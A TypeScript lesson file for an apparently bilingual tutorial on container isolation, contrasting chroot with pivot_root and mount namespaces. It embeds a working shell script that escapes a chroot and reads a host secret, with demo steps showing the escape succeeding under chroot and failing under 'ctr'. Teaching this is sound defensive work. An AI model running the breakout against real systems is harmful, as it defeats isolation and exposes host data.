import type { Topic } from './topic.ts';

/** The directory of the demonstration in the sandbox host. */
const place = '/run/explain';

/** The superuser escapes from a chroot with a working directory outside of it (chroot(2), NOTES). */
const climb = `#!/bin/sh
# After a second chroot the working directory is outside of it, so .. leads up to the real root.
mkdir -p /tmp/hole/bin
cp /bin/busybox /tmp/hole/bin
nsenter --root=/tmp/hole --wd=/ /bin/busybox sh -c '
  for step in 1 2 3 4 5 6 7 8 9; do cd -P ..; done
  exec /bin/busybox chroot . /bin/sh -c "echo at the top: /*; cat ${place}/secret"'
`;

export const chroot: Topic = {
  title: {
    en: 'why a process can escape from chroot, and not from pivot_root',
    zh: '为什么进程能逃出 chroot，却逃不出 pivot_root',
  },
  text: [
    {
      en: "The tutorial gives its container a root with chroot. That changes one thing: where this process begins to look up a name that starts with /. Everything else of the host is still there, mounted and open; and .. stops only at a process's root. A process that is root inside makes itself a second, deeper root and keeps its working directory outside of it. From there, .. never meets a root, and leads all the way up.",
      zh: '教程用 chroot 给容器设置根。它只改变一件事：这个进程从哪里开始查找以 / 开头的名字。宿主机的其他一切都还在，挂载着、打开着；而 .. 只会停在进程自己的根上。里面的 root 进程再给自己设一个更深的根，把工作目录留在外面。从那里出发，.. 碰不到任何根，一路通到顶。',
    },
    {
      en: 'ctr gives the container a mount namespace, a list of mounts of its own, puts the new root at the top of it with pivot_root, and takes the old one off the list. Then there is no host left to climb to: .. from the top is the top.',
      zh: 'ctr 给容器一个挂载命名空间 (mount namespace)，也就是自己的一份挂载表，用 pivot_root 把新的根放到最上面，再把旧的根从表里卸下。这样就没有宿主机可以爬上去了：顶上的 .. 还是顶。',
    },
  ],
  scenes: {
    files: {
      'labex/climb': climb,
      secret: "the host's secret\n",
      'labex.json': `${JSON.stringify({ host_name: 'labex', root_dir: './labex', ip: '192.168.0.100/16', bridge_name: 'ctr0', bridge_ip: '192.168.0.1' }, null, 2)}\n`,
    },
    list: [
      {
        says: {
          en: 'A file of the host, and a chroot that cannot see it:',
          zh: '宿主机上的一个文件，以及看不见它的 chroot：',
        },
        line: `chroot labex cat ${place}/secret`,
      },
      {
        says: {
          en: 'How to climb out, with what every root file system has:',
          zh: '怎么爬出去，只用每个根文件系统里都有的东西：',
        },
        line: 'cat labex/climb',
      },
      {
        says: {
          en: 'The same chroot, climbing. It arrives at the root of the host:',
          zh: '同一个 chroot，往上爬，到了宿主机的根：',
        },
        line: 'chroot labex /bin/sh /climb',
      },
      {
        says: {
          en: 'The same root file system and the same attempt, in a container of ctr. It arrives at its own root:',
          zh: '同一个根文件系统、同样的尝试，放进 ctr 的容器里。它到的是自己的根：',
        },
        line: 'ctr --quiet up labex.json -- /bin/sh /climb',
      },
    ],
    moral: {
      en: 'chroot moved the start; pivot_root moved the whole tree. ctr plan CONFIG shows the commands: stage-root, mount-root, pivot-root.',
      zh: 'chroot 只移动了起点；pivot_root 移动了整棵树。ctr plan 配置 可以看到这些命令：stage-root、mount-root、pivot-root。',
    },
  },
};
